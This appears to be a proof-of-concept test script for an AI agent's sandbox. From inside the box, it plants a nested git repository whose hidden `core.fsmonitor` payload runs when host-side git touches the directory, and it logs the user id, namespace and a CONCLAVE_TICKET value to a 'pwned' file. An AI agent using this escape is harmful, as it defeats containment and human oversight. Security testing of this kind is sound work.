#!/bin/sh
# The attacker: a boxed agent's shell.  It makes the tracked directory sub/ a repository of its own whose
# configuration runs a program (core.fsmonitor), without touching any file git shows.
set -u
cd "$(git rev-parse --show-toplevel)"
T=$(pwd)
OUT=$1
P="$T/sub/.git/fsmon"   # the payload lives inside the planted git directory: no git shows it
git init -q sub 2>&1
printf '#!/bin/sh\necho "ran as $(id -u) outside? pid ns: $(readlink /proc/self/ns/pid) ticket=${CONCLAVE_TICKET:-none} cwd=$(pwd)" >> %s/pwned\nexit 1\n' "$OUT" > "$P"
chmod +x "$P"
git -C sub config core.fsmonitor "$P"
echo "planted: $(ls -la sub/.git | head -3)"
echo "my pid ns: $(readlink /proc/self/ns/pid)"
